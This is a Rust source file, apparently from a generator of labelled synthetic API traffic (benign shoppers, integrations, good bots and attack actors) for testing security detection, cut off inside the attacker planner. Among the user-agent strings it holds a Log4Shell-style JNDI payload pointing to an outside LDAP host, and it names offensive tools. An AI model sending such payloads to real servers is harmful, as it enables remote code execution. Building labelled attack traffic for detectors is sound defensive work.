//! Who talks to the API: the benign population (browsers, mobile apps, server-to-server
//! integrations, good bots) and the attack actors, one per scenario `[[actor]]`, each a
//! [`Planner`] that yields [`Session`]s in start-time order.
//!
//! Invariants: every planner draws from its own random stream (forked from the run seed by its
//! position), so its traffic does not depend on other actors; every actor owns its source
//! addresses (benign clients, good bots and each attack actor use disjoint ranges of
//! 198.18.0.0/15), so "records from the actor's addresses" is exactly the actor's traffic.

use crate::data::{self, Person, PRODUCTS, SEARCH_TERMS};
use crate::http::{BodySpec, Req, ReqBuilder, Resp};
use crate::payloads::{self as pl, encode, pct, pick_encoding};
use crate::rng::Rng;
use crate::scenario::{Actor, Benign, RateCurve};
use crate::tcp::{Client, Session};
use serde::{Deserialize, Serialize};
use std::collections::VecDeque;
use std::fmt::Write as _;

/// The alert-vocabulary categories traffic can show.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize, PartialOrd, Ord)]
#[serde(rename_all = "snake_case")]
pub enum Category {
    Sqli,
    Xss,
    PathTraversal,
    CommandInjection,
    Ssrf,
    JndiInjection,
    Xxe,
    RequestSmuggling,
    BruteForce,
    CredentialStuffing,
    AccountTakeover,
    Enumeration,
    ForcedBrowsing,
    RateAnomaly,
    Scraping,
    Bot,
    DataExfiltration,
    SensitiveDataExposure,
    UnauthenticatedAccess,
    ShadowApi,
    ZombieApi,
    ProtocolAnomaly,
}

impl Category {
    pub const ALL: [Category; 22] = [
        Category::Sqli,
        Category::Xss,
        Category::PathTraversal,
        Category::CommandInjection,
        Category::Ssrf,
        Category::JndiInjection,
        Category::Xxe,
        Category::RequestSmuggling,
        Category::BruteForce,
        Category::CredentialStuffing,
        Category::AccountTakeover,
        Category::Enumeration,
        Category::ForcedBrowsing,
        Category::RateAnomaly,
        Category::Scraping,
        Category::Bot,
        Category::DataExfiltration,
        Category::SensitiveDataExposure,
        Category::UnauthenticatedAccess,
        Category::ShadowApi,
        Category::ZombieApi,
        Category::ProtocolAnomaly,
    ];

    /// The snake_case name (as in ARCHITECTURE.md's alert vocabulary).
    pub fn name(self) -> String {
        serde_json::to_value(self)
            .ok()
            .and_then(|v| v.as_str().map(str::to_owned))
            .unwrap_or_default()
    }

    /// Share of attempts that succeed when the scenario does not say: what a typical target
    /// of this kind of attack answers.
    pub fn default_success(self) -> f64 {
        use Category::*;
        match self {
            Sqli | PathTraversal | CommandInjection => 0.05,
            Ssrf | Xxe => 0.1,
            Xss | RequestSmuggling | RateAnomaly => 0.3,
            BruteForce => 0.01,
            CredentialStuffing | ForcedBrowsing => 0.02,
            Enumeration | UnauthenticatedAccess => 0.8,
            Bot => 0.5,
            ProtocolAnomaly => 0.0,
            JndiInjection
            | AccountTakeover
            | Scraping
            | DataExfiltration
            | SensitiveDataExposure
            | ShadowApi
            | ZombieApi => 1.0,
        }
    }

    /// The tool user agent an attacker of this kind sends when it does not hide.
    fn tool_ua(self) -> &'static str {
        use Category::*;
        match self {
            Sqli => "sqlmap/1.8.4#stable (https://sqlmap.org)",
            Xss => "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Dalfox/2.9.3",
            PathTraversal => "DotDotPwn v3.0.2",
            CommandInjection => "commix/v4.0-stable (https://commixproject.com)",
            Ssrf => "python-requests/2.31.0",
            JndiInjection => "${jndi:ldap://198.19.200.9:1389/ua}",
            Xxe => "XXEinjector/1.1 (ruby)",
            RequestSmuggling => "Burp Suite Professional HTTP Request Smuggler",
            BruteForce => "Mozilla/4.0 (Hydra)",
            CredentialStuffing => "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            AccountTakeover => "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
            Enumeration => "python-requests/2.32.3",
            ForcedBrowsing => "Fuzz Faster U Fool v2.1.0-dev",
            RateAnomaly => "Go-http-client/1.1",
            Scraping => "Scrapy/2.11.2 (+https://scrapy.org)",
            Bot => "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
            DataExfiltration => "curl/8.11.1",
            SensitiveDataExposure => "ShopApp/5.14.2 (Android 14; Pixel 8; okhttp/4.12.0)",
            UnauthenticatedAccess => "curl/8.5.0",
            ShadowApi => "ShopAdmin/0.9.1-internal (Electron 33.2.0)",
            ZombieApi => "LegacyReporting/1.4 (Java/1.8.0_202)",
            ProtocolAnomaly => "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        }
    }
}

/// What the generator and the planners share.
#[derive(Clone, Debug)]
pub struct World {
    pub seed: u64,
    /// Registered users (ids 1..=users).
    pub users: u64,
    pub epoch_secs: u64,
    pub duration_us: u64,
    pub servers: u16,
    pub gzip: f64,
    pub chunked: f64,
}

impl World {
    /// A response as this API sends it: sometimes gzip (when accepted), sometimes chunked,
    /// with a processing time.
    fn resp(&self, r: &mut Rng, status: u16, body: BodySpec, accepts_gzip: bool) -> Resp {
        let mut x = Resp::new(status, body);
        x.gzip = accepts_gzip && status < 300 && r.chance(self.gzip);
        x.chunked = r.chance(self.chunked);
        x.think_us = r.log_uniform(300.0, 60_000.0) as u64;
        x
    }
    fn err(&self, r: &mut Rng, status: u16, code: &str, msg: &str) -> Resp {
        let mut x = Resp::json_error(status, code, msg);
        x.think_us = r.log_uniform(200.0, 5_000.0) as u64;
        x
    }
}

/// Facts a label carries that the planner knows up front.
#[derive(Clone, Debug)]
pub struct LabelInfo {
    pub name: String,
    pub kind: &'static str,
    pub categories: Vec<String>,
    pub description: String,
}

/// A source of sessions in start-time order.
pub trait Planner {
    /// Start of the next session, µs from the capture start; `None` when done.
    fn next_start(&self) -> Option<u64>;
    /// The next session (its `actor` is a label index this planner registered).
    fn session(&mut self, w: &World) -> Session;
}

/// First address of the attack range (198.19.160.0); attack actors take consecutive blocks.
pub const ATTACK_BASE: u32 = u32::from_be_bytes([198, 19, 160, 0]);
/// Addresses available to attack actors (198.19.160.0 – 198.19.254.255).
pub const ATTACK_IPS: u32 = u32::from_be_bytes([198, 19, 255, 0]) - ATTACK_BASE;
/// Good bots: 198.19.150.0/24.
pub const GOOD_BOT_BASE: u32 = u32::from_be_bytes([198, 19, 150, 0]);
/// Benign clients from 198.18.0.1 (at most 100,000: they end below 198.19.150.0).
pub const CLIENT_BASE: u32 = u32::from_be_bytes([198, 18, 0, 1]);

fn client_at(ip: u32, r: &mut Rng, mobile: bool) -> Client {
    let ip = ip.to_be_bytes();
    let rtt_us = if mobile {
        r.log_uniform(30_000.0, 300_000.0)
    } else {
        r.log_uniform(2_000.0, 150_000.0)
    } as u64;
    Client {
        ip,
        mac: [0x02, 0x00, 0x5e, 0x00, 0x00, 0x01],
        ttl: *r.pick(&[44u8, 48, 50, 52, 54, 55, 57, 58, 60, 115, 116, 118]),
        rtt_us,
    }
}

fn server_for(r: &mut Rng, w: &World) -> u16 {
    r.below(u64::from(w.servers)) as u16
}

/// Daily traffic shape: 1 at 16:00 UTC, 0.15 at 04:00.
fn daily(w: &World, t_us: u64) -> f64 {
    let secs = w.epoch_secs + t_us / 1_000_000;
    let h = (secs % 86_400) as f64 / 3600.0;
    0.15 + 0.85 * (0.5 - 0.5 * (std::f64::consts::TAU * (h - 4.0) / 24.0).cos())
}

fn session(actor: u32, client: Client, server: u16, start_us: u64, reqs: Vec<Req>) -> Session {
    Session {
        actor,
        client,
        server,
        start_us,
        reqs: VecDeque::from(reqs),
        identities: Vec::new(),
    }
}

fn bearer(w: &World, user: u64, at_us: u64) -> String {
    let iat = w.epoch_secs + at_us / 1_000_000 - 600;
    format!("Bearer {}", data::jwt(w.seed, user, iat))
}

fn login_body(user: &str, password: &str, remember: bool) -> Vec<u8> {
    format!(
        r#"{{"username":{},"password":{},"remember_me":{remember}}}"#,
        data::json_string(user),
        data::json_string(password)
    )
    .into_bytes()
}

fn password(r: &mut Rng) -> String {
    let mut p = String::new();
    r.token(&mut p, 14);
    p
}

// ---------------------------------------------------------------------------------------------
// Benign people and integrations.

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Browser,
    Mobile,
    Integration,
}

/// Browsers, mobile apps and integrations: sessions arrive as a Poisson process shaped by the
/// rate curve; each picks a client (some much more active than others).
pub struct Population {
    cfg: Benign,
    labels: [u32; 3],
    rng: Rng,
    /// Candidate arrivals per µs at the curve's peak.
    peak_per_us: f64,
    next: Option<u64>,
    end: u64,
    seed: u64,
}

impl Population {
    pub fn new(cfg: &Benign, w: &World, rng: Rng, labels: [u32; 3]) -> Self {
        let peak_per_us = f64::from(cfg.clients) * cfg.sessions_per_client_per_hour / 3.6e9;
        let mut p = Population {
            cfg: cfg.clone(),
            labels,
            rng,
            peak_per_us,
            next: None,
            end: w.duration_us,
            seed: w.seed,
        };
        if cfg.clients > 0 && peak_per_us > 0.0 {
            p.next = Some(0);
            p.advance(w);
        }
        p
    }

    pub fn label_infos() -> [LabelInfo; 3] {
        let l = |name: &str, d: &str| LabelInfo {
            name: name.into(),
            kind: "benign",
            categories: vec![],
            description: d.into(),
        };
        [
            l("benign-browsers", "people shopping in a web browser: log in (sometimes mistyping), search, browse, cart, checkout"),
            l("benign-mobile", "the ShopApp mobile app on the v2 endpoints"),
            l("benign-integrations", "server-to-server partners with API keys: order sync, catalogue sync, XML imports, webhooks"),
        ]
    }

    fn kind_of(&self, client: u32) -> Kind {
        let m = &self.cfg.mix;
        match Rng::keyed(self.seed, 200, client.into()).weighted(&[
            m.browser,
            m.mobile,
            m.integration,
        ]) {
            0 => Kind::Browser,
            1 => Kind::Mobile,
            _ => Kind::Integration,
        }
    }

    /// The next accepted arrival after the current one (thinning by the rate curve).
    fn advance(&mut self, w: &World) {
        let Some(mut t) = self.next else { return };
        loop {
            t += self.rng.exp(1.0 / self.peak_per_us).max(1.0) as u64;
            if t >= self.end {
                self.next = None;
                return;
            }
            let keep = match self.cfg.rate_curve {
                RateCurve::Flat => 1.0,
                RateCurve::Daily => daily(w, t),
            };
            if self.rng.chance(keep) {
                self.next = Some(t);
                return;
            }
        }
    }

    fn think(&self, r: &mut Rng, scale: f64) -> u64 {
        let median = self.cfg.think_median.as_secs_f64() * 1e6 * scale;
        r.log_normal(median, 1.0).clamp(150_000.0, 180e6) as u64
    }

    fn browse(
        &self,
        w: &World,
        r: &mut Rng,
        user: u64,
        start: u64,
        mobile: bool,
    ) -> (Vec<Req>, String) {
        let person = Person::new(w.seed, user);
        let ua = if mobile {
            *r.pick(pl::MOBILE_UAS)
        } else {
            *r.pick(pl::BROWSER_UAS)
        };
        let mut reqs = Vec::new();
        let mut gap = 0u64;
        let token;
        let hdrs = |b: ReqBuilder, token: &Option<String>| {
            let b = b
                .header("User-Agent", ua)
                .header("Accept", "application/json")
                .header("Accept-Encoding", "gzip, deflate, br");
            match token {
                Some(t) => b.header("Authorization", t),
                None => b,
            }
        };
        if r.chance(0.55) {
            token = Some(bearer(w, user, start));
        } else {
            let pw = password(r);
            if r.chance(self.cfg.login_typo_rate) {
                let mut typo = pw.clone();
                typo.pop();
                let b = hdrs(ReqBuilder::new("POST", "/api/v1/auth/login"), &None).body(
                    "application/json",
                    &login_body(&person.email(), &typo, false),
                );
                reqs.push(b.build(
                    gap,
                    w.err(r, 401, "invalid_grant", "invalid username or password"),
                ));
                gap = self.think(r, 1.5);
            }
            let b = hdrs(ReqBuilder::new("POST", "/api/v1/auth/login"), &None).body(
                "application/json",
                &login_body(&person.email(), &pw, r.chance(0.5)),
            );
            let iat = w.epoch_secs + start / 1_000_000;
            reqs.push(b.build(gap, w.resp(r, 200, BodySpec::Token { user, iat }, true)));
            token = Some(format!("Bearer {}", data::jwt(w.seed, user, iat)));
            gap = self.think(r, 1.0);
        }
        let n = 1 + r.exp(self.cfg.requests_per_session - 1.0) as u64;
        let scale = if mobile { 0.6 } else { 1.0 };
        for _ in 0..n.min(200) {
            let nf = r.chance(self.cfg.not_found_rate);
            let b;
            let resp;
            match r.weighted(&[
                25.0, 10.0, 20.0, 8.0, 8.0, 6.0, 5.0, 6.0, 5.0, 2.0, 2.0, 1.0, 1.0, 3.0, 0.5,
            ]) {
                0 => {
                    let term = pct(r.pick_str(SEARCH_TERMS), false).replace("%20", "+");
                    let limit = *r.pick(&[20u64, 24, 48]);
                    let page = if r.chance(0.7) { 1 } else { r.range(2, 6) };
                    b = if mobile {
                        ReqBuilder::new("GET", &format!("/api/v2/products?q={term}&limit={limit}"))
                    } else {
                        ReqBuilder::new(
                            "GET",
                            &format!(
                                "/api/v1/products?search={term}&page={page}&limit={limit}&sort={}",
                                r.pick(&["relevance", "price", "rating"])
                            ),
                        )
                    };
                    let total = r.range(0, 300);
                    resp = w.resp(
                        r,
                        200,
                        BodySpec::ProductPage {
                            start: (page - 1) * limit + (term.len() as u64 * 97),
                            limit,
                            total: total.max((page - 1) * limit),
                            v2: mobile,
                        },
                        true,
                    );
                }
                1 => {
                    let page = r.range(1, 10);
                    b = ReqBuilder::new(
                        "GET",
                        &format!(
                            "/api/v1/products?category={}&page={page}&limit=20",
                            r.pick(data::CATEGORIES)
                        ),
                    );
                    let start = page * 20 + r.below(50) * 200;
                    resp = w.resp(
                        r,
                        200,
                        BodySpec::ProductPage {
                            start,
                            limit: 20,
                            total: 1000,
                            v2: false,
                        },
                        true,
                    );
                }
                2 | 3 => {
                    let id = if nf {
                        r.range(PRODUCTS + 1, PRODUCTS * 3)
                    } else {
                        r.range(1, PRODUCTS + 1)
                    };
                    let reviews = r.chance(0.3);
                    b = ReqBuilder::new(
                        "GET",
                        &if reviews {
                            format!("/api/v1/products/{id}/reviews")
                        } else {
                            format!("/api/v1/products/{id}")
                        },
                    );
                    resp = if nf {
                        w.err(r, 404, "not_found", &format!("product {id} not found"))
                    } else if reviews {
                        w.resp(r, 200, BodySpec::Reviews(id), true)
                    } else {
                        w.resp(r, 200, BodySpec::Product(id), true)
                    };
                }
                4 => {
                    let body = format!(
                        r#"{{"sku":"SKU-{:05}","qty":{}}}"#,
                        r.below(100_000),
                        r.range(1, 3)
                    );
                    b = ReqBuilder::new("POST", "/api/v1/cart/items")
                        .body("application/json", body.as_bytes());
                    resp = if r.chance(0.03) {
                        w.err(r, 409, "out_of_stock", "item is out of stock")
                    } else {
                        let salt = r.below(8);
                        w.resp(r, 201, BodySpec::Cart { user, salt }, true)
                    };
                }
                5 => {
                    b = ReqBuilder::new("GET", "/api/v1/cart");
                    let salt = r.below(8);
                    resp = w.resp(r, 200, BodySpec::Cart { user, salt }, true);
                }
                6 => {
                    b = ReqBuilder::new(
                        "GET",
                        &if mobile {
                            format!("/api/v2/users/{user}")
                        } else {
                            format!("/api/v1/users/{user}")
                        },
                    );
                    resp = w.resp(
                        r,
                        200,
                        if mobile {
                            BodySpec::UserV2(user)
                        } else {
                            BodySpec::User(user)
                        },
                        true,
                    );
                }
                7 => {
                    b = ReqBuilder::new(
                        "GET",
                        &if mobile {
                            "/api/v2/orders?limit=20".to_string()
                        } else {
                            "/api/v1/orders?page=1&limit=10".to_string()
                        },
                    );
                    resp = w.resp(
                        r,
                        200,
                        BodySpec::OrdersPage {
                            user,
                            page: 1,
                            limit: if mobile { 20 } else { 10 },
                        },
                        true,
                    );
                }
                8 => {
                    let id = user * 1000
                        + if nf {
                            r.range(900, 999)
                        } else {
                            r.range(1, 20)
                        };
                    b = ReqBuilder::new("GET", &format!("/api/v1/orders/{id}"));
                    resp = if nf {
                        w.err(r, 404, "not_found", &format!("order {id} not found"))
                    } else {
                        w.resp(r, 200, BodySpec::Order(id), true)
                    };
                }
                9 => {
                    b = ReqBuilder::new("GET", &format!("/api/v1/users/{user}/payment-methods"));
                    resp = w.resp(r, 200, BodySpec::PaymentMethods(user), true);
                }
                10 => {
                    b = ReqBuilder::new("POST", "/api/v1/cart/checkout").body(
                        "application/json",
                        br#"{"payment_method":"default","shipping":"standard"}"#,
                    );
                    let id = user * 1000 + r.range(20, 40);
                    resp = w.resp(r, 201, BodySpec::Order(id), true);
                }
                11 => {
                    let body = format!(
                        r#"{{"stars":{},"title":"Good","text":"Does what it says, would buy again."}}"#,
                        r.range(3, 6)
                    );
                    b = ReqBuilder::new(
                        "POST",
                        &format!("/api/v1/products/{}/reviews", r.range(1, PRODUCTS + 1)),
                    )
                    .body("application/json", body.as_bytes());
                    resp = w.resp(
                        r,
                        201,
                        BodySpec::Json(r#"{"status":"pending_moderation"}"#.into()),
                        true,
                    );
                }
                13 => {
                    b = ReqBuilder::new(
                        "DELETE",
                        &format!("/api/v1/cart/items/SKU-{:05}", r.below(100_000)),
                    );
                    resp = w.resp(r, 204, BodySpec::Empty, true);
                }
                14 => {
                    let body = format!(
                        r#"{{"image_url":"https://cdn.gravatar.example/avatar/{:032x}?s=256"}}"#,
                        r.next_u64()
                    );
                    b = ReqBuilder::new("PUT", &format!("/api/v1/users/{user}/avatar"))
                        .body("application/json", body.as_bytes());
                    resp = w.resp(
                        r,
                        200,
                        BodySpec::Json(r#"{"status":"stored"}"#.into()),
                        false,
                    );
                }
                _ => {
                    let body = format!(
                        r#"{{"phone":{},"preferences":{{"newsletter":{}}}}}"#,
                        data::json_string(&person.phone(w.seed)),
                        r.chance(0.5)
                    );
                    b = ReqBuilder::new("PUT", &format!("/api/v1/users/{user}"))
                        .body("application/json", body.as_bytes());
                    resp = w.resp(r, 200, BodySpec::User(user), true);
                }
            }
            reqs.push(hdrs(b, &token).build(gap, resp));
            gap = self.think(r, scale);
        }
        if r.chance(0.2) {
            reqs.push(
                hdrs(ReqBuilder::new("POST", "/api/v1/auth/logout"), &token)
                    .build(gap, w.resp(r, 204, BodySpec::Empty, true)),
            );
        }
        (reqs, person.username())
    }

    fn integration(&self, w: &World, r: &mut Rng, client: u32) -> (Vec<Req>, String) {
        let (key_id, key) = data::api_key(w.seed, client.into());
        let ua = *Rng::keyed(w.seed, 201, client.into()).pick(pl::INTEGRATION_UAS);
        let hdrs = |b: ReqBuilder| {
            b.header("User-Agent", ua)
                .header("Accept", "application/json")
                .header("Accept-Encoding", "gzip")
                .header("X-API-Key", &key)
        };
        let mut reqs = Vec::new();
        let gap = |r: &mut Rng| r.range(50_000, 1_200_000);
        let mut cursor = r.below(10_000);
        for _ in 0..r.range(1, 6) {
            let target = if cursor == 0 {
                "/api/v2/orders?limit=100".to_string()
            } else {
                format!(
                    "/api/v2/orders?limit=100&cursor={}",
                    data::cursor_for(cursor)
                )
            };
            let g = gap(r);
            reqs.push(hdrs(ReqBuilder::new("GET", &target)).build(
                g,
                w.resp(
                    r,
                    200,
                    BodySpec::OrdersPage {
                        user: 1 + (cursor % w.users.max(1)),
                        page: 1,
                        limit: 25,
                    },
                    true,
                ),
            ));
            cursor += 100;
        }
        if r.chance(0.4) {
            let start = r.range(1, 40);
            for p in start..start + r.range(1, 4) {
                let g = gap(r);
                reqs.push(
                    hdrs(ReqBuilder::new(
                        "GET",
                        &format!("/api/v1/products?page={p}&limit=100"),
                    ))
                    .build(
                        g,
                        w.resp(
                            r,
                            200,
                            BodySpec::ProductPage {
                                start: (p - 1) * 100,
                                limit: 100,
                                total: PRODUCTS,
                                v2: false,
                            },
                            true,
                        ),
                    ),
                );
            }
        }
        if r.chance(0.15) {
            let mut xml = String::from("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<orders>");
            for _ in 0..r.range(1, 20) {
                let _ = write!(
                    xml,
                    "<order><sku>SKU-{:05}</sku><qty>{}</qty><customer>{}</customer></order>",
                    r.below(100_000),
                    r.range(1, 9),
                    r.range(1, w.users.max(2))
                );
            }
            xml.push_str("</orders>");
            let g = gap(r);
            reqs.push(
                hdrs(ReqBuilder::new("POST", "/api/v1/orders/import"))
                    .body("application/xml", xml.as_bytes())
                    .build(
                        g,
                        w.resp(
                            r,
                            202,
                            BodySpec::Json(r#"{"status":"accepted"}"#.into()),
                            false,
                        ),
                    ),
            );
        }
        if r.chance(0.03) {
            let body = format!(
                r#"{{"callback_url":"https://hooks.partner{}.example/shop/events","events":["order.created","order.shipped"]}}"#,
                client % 50
            );
            let g = gap(r);
            reqs.push(
                hdrs(ReqBuilder::new("POST", "/api/v1/webhooks"))
                    .body("application/json", body.as_bytes())
                    .build(
                        g,
                        w.resp(
                            r,
                            201,
                            BodySpec::Json(r#"{"id":"wh_01","status":"active"}"#.into()),
                            false,
                        ),
                    ),
            );
        }
        (reqs, key_id)
    }
}

impl Planner for Population {
    fn next_start(&self) -> Option<u64> {
        self.next
    }

    fn session(&mut self, w: &World) -> Session {
        let start = self.next.unwrap_or(0);
        let mut r = self.rng.fork();
        // Activity is skewed: low client numbers are the regulars.
        let client =
            ((r.unit().powi(2)) * f64::from(self.cfg.clients)) as u32 % self.cfg.clients.max(1);
        let kind = self.kind_of(client);
        let user = u64::from(client) + 1;
        let (reqs, identity) = match kind {
            Kind::Browser => self.browse(w, &mut r, user, start, false),
            Kind::Mobile => self.browse(w, &mut r, user, start, true),
            Kind::Integration => self.integration(w, &mut r, client),
        };
        let label = self.labels[kind as usize];
        let mut crng = Rng::keyed(w.seed, 202, client.into());
        let c = client_at(CLIENT_BASE + client, &mut crng, kind == Kind::Mobile);
        let server = server_for(&mut r, w);
        let mut s = session(label, c, server, start, reqs);
        s.identities.push(identity);
        self.advance(w);
        s
    }
}

/// Good bots: health checkers, uptime monitors and search crawlers.
pub struct GoodBots {
    kind: GoodBot,
    count: u32,
    label: u32,
    period_us: u64,
    n: u64,
    next: Option<u64>,
    end: u64,
    rng: Rng,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum GoodBot {
    HealthCheck,
    Uptime,
    Crawler,
}

impl GoodBots {
    /// `first_ip`: the index of this group's first address in the good-bot range.
    pub fn new(kind: GoodBot, count: u32, w: &World, rng: Rng, label: u32) -> Self {
        let period_us = match kind {
            GoodBot::HealthCheck => 10_000_000,
            GoodBot::Uptime => 60_000_000,
            GoodBot::Crawler => 300_000_000,
        } / u64::from(count.max(1));
        GoodBots {
            kind,
            count,
            label,
            period_us,
            n: 0,
            next: (count > 0).then_some(period_us / 3),
            end: w.duration_us,
            rng,
        }
    }

    pub fn label_info(kind: GoodBot) -> LabelInfo {
        let (n, d) = match kind {
            GoodBot::HealthCheck => ("good-bot-health-checks", "load-balancer and Kubernetes health probes of /health, every 10 s, one connection each"),
            GoodBot::Uptime => ("good-bot-uptime-monitors", "external uptime monitors (UptimeRobot, Pingdom, Better Stack) every minute"),
            GoodBot::Crawler => ("good-bot-crawlers", "search engine crawlers (Googlebot, bingbot, YandexBot, DuckDuckBot, Applebot) reading product pages"),
        };
        LabelInfo {
            name: n.into(),
            kind: "benign",
            categories: vec![],
            description: d.into(),
        }
    }

    /// Offset of this kind's addresses in the good-bot /24.
    fn ip_offset(&self) -> u32 {
        match self.kind {
            GoodBot::HealthCheck => 1,
            GoodBot::Uptime => 70,
            GoodBot::Crawler => 140,
        }
    }
}

impl Planner for GoodBots {
    fn next_start(&self) -> Option<u64> {
        self.next
    }

    fn session(&mut self, w: &World) -> Session {
        let start = self.next.unwrap_or(0);
        let who = (self.n % u64::from(self.count.max(1))) as u32;
        let mut r = self.rng.fork();
        let mut crng = Rng::keyed(w.seed, 203 + self.ip_offset() as u64, who.into());
        let c = client_at(GOOD_BOT_BASE + self.ip_offset() + who, &mut crng, false);
        let (reqs, ident) = match self.kind {
            GoodBot::HealthCheck => {
                let ua = if who.is_multiple_of(2) {
                    "ELB-HealthChecker/2.0"
                } else {
                    "kube-probe/1.31"
                };
                let b = ReqBuilder::new("GET", "/health")
                    .header("User-Agent", ua)
                    .header("Accept", "*/*")
                    .close();
                (
                    vec![b.build(0, w.resp(&mut r, 200, BodySpec::Health, false))],
                    ua.to_string(),
                )
            }
            GoodBot::Uptime => {
                let ua = [
                    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
                    "Better Stack Better Uptime Bot Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
                ][who as usize % 3];
                let mut v = vec![ReqBuilder::new("GET", "/health")
                    .header("User-Agent", ua)
                    .header("Accept", "*/*")
                    .build(0, w.resp(&mut r, 200, BodySpec::Health, false))];
                v.push(
                    ReqBuilder::new("GET", "/api/v1/products?limit=1")
                        .header("User-Agent", ua)
                        .header("Accept", "*/*")
                        .close()
                        .build(
                            r.range(1_000, 50_000),
                            w.resp(
                                &mut r,
                                200,
                                BodySpec::ProductPage {
                                    start: 0,
                                    limit: 1,
                                    total: PRODUCTS,
                                    v2: false,
                                },
                                false,
                            ),
                        ),
                );
                (v, ua.to_string())
            }
            GoodBot::Crawler => {
                let ua = [
                    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
                    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
                    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
                ][who as usize % 5];
                let h = |b: ReqBuilder| {
                    b.header("User-Agent", ua)
                        .header("Accept", "application/json,text/html;q=0.9,*/*;q=0.8")
                        .header("Accept-Encoding", "gzip, deflate, br")
                };
                let mut v = vec![h(ReqBuilder::new("GET", "/robots.txt"))
                    .build(0, w.err(&mut r, 404, "not_found", "no such route"))];
                for _ in 0..r.range(5, 30) {
                    let id = r.range(1, PRODUCTS + 1);
                    let g = r.range(1_000_000, 8_000_000);
                    v.push(
                        h(ReqBuilder::new("GET", &format!("/api/v1/products/{id}")))
                            .build(g, w.resp(&mut r, 200, BodySpec::Product(id), true)),
                    );
                }
                (v, ua.to_string())
            }
        };
        let server = server_for(&mut r, w);
        let mut s = session(self.label, c, server, start, reqs);
        s.identities.push(ident);
        self.n += 1;
        let jitter = r.below(self.period_us / 10 + 1);
        let t = start + self.period_us - self.period_us / 20 + jitter;
        self.next = (t < self.end).then_some(t);
        s
    }
}

// ---------------------------------------------------------------------------------------------
// Attack actors.

/// One `[[actor]]`.
pub struct Attacker {
    cfg: Actor,
    cat: Category,
    label: u32,
    rng: Rng,
    ips: Vec<u32>,
    next: Option<u64>,
    end: u64,
    sent: u64,
    /// Position in wordlists / id walks / pages.
    pos: u64,
    /// The attacker's own (or stolen) account.
    own_user: u64,
    /// Brute force: the current target and whether it has fallen.
    target: u64,
}

impl Attacker {
    pub fn new(cfg: &Actor, w: &World, mut rng: Rng, label: u32, first_ip: u32) -> Self {
        let n = cfg.stealth.ips.max(1);
        let ips = (0..n).map(|i| ATTACK_BASE + first_ip + i).collect();
        let start = cfg.start.map_or(0, |d| d.as_micros() as u64);
        let end = cfg
            .duration
            .map_or(w.duration_us, |d| start + d.as_micros() as u64)
            .min(w.duration_us.max(start + 1));
        let own_user = rng.range(1, w.users.max(1) + 1);
        let target = rng.range(1, w.users.max(1) + 1);
        Attacker {
            cat: cfg.category,
            cfg: cfg.clone(),
            label,
            rng,
            ips,
            next: Some(start),
            end,
            sent: 0,
            pos: 0,
            own_user,
            target,
        }
    }

    pub fn label_info(cfg: &Actor) -> LabelInfo {
        let s = &cfg.stealth;
        let mut d = format!("{} at {}/s", cfg.category.name(), cfg.rate);
        if s.low_and_slow {
            d.push_str(", low and slow");
        }
        if s.ips > 1 {
            let _ = write!(d, ", over {} addresses", s.ips);
        }
        if s.rotate_user_agents {
            d.push_str(", rotating user agents");
        }
        if s.valid_tokens {
            d.push_str(", valid tokens");
        }
        if s.encodings {
            d.push_str(", encoded payloads");
        }
        let _ = write!(d, ", success rate {}", cfg.success());
        LabelInfo {
            name: cfg.name.clone(),
            kind: "attack",
            categories: vec![cfg.category.name()],
            description: d,
        }
    }

    /// How many addresses this actor uses.
    pub fn ip_count(cfg: &Actor) -> u32 {
        cfg.stealth.ips.max(1)
    }

    fn ua(&self, r: &mut Rng) -> String {
        if self.cfg.stealth.rotate_user_agents {
            (*r.pick(pl::BROWSER_UAS)).to_string()
        } else {
            self.cat.tool_ua().to_string()
        }
    }

    /// Common headers: UA, Accept, and (when configured) a valid token of the own account.
    fn base(&self, b: ReqBuilder, ua: &str, w: &World, at: u64) -> ReqBuilder {
        let b = b
            .header("User-Agent", ua)
            .header("Accept", "*/*")
            .header("Accept-Encoding", "gzip, deflate");
        if self.cfg.stealth.valid_tokens {
            b.header("Authorization", &bearer(w, self.own_user, at))
        } else {
            b
        }
    }

    fn payload(&self, r: &mut Rng, list: &[&str]) -> String {
        let p = list[(self.pos as usize + r.below(3) as usize) % list.len()];
        encode(p, pick_encoding(r, self.cfg.stealth.encodings), r)
    }

    /// One attack request (some categories return several for a scripted sequence).
    fn requests(
        &mut self,
        w: &World,
        r: &mut Rng,
        at: u64,
        ua: &str,
        idents: &mut Vec<String>,
    ) -> Vec<(ReqBuilder, Resp, Option<Resp>, u32)> {
        use Category::*;
        let ok = r.chance(self.cfg.success());
        self.pos += 1;
        let one = |b: ReqBuilder, resp: Resp| vec![(b, resp, None, 1)];
        let b0 = |this: &Self, m: &str, t: &str| this.base(ReqBuilder::new(m, t), ua, w, at);
        match self.cat {
            Sqli => {
                let p = self.payload(r, pl::SQLI);
                let (b, resp) = match r.below(4) {
                    0 | 1 => (
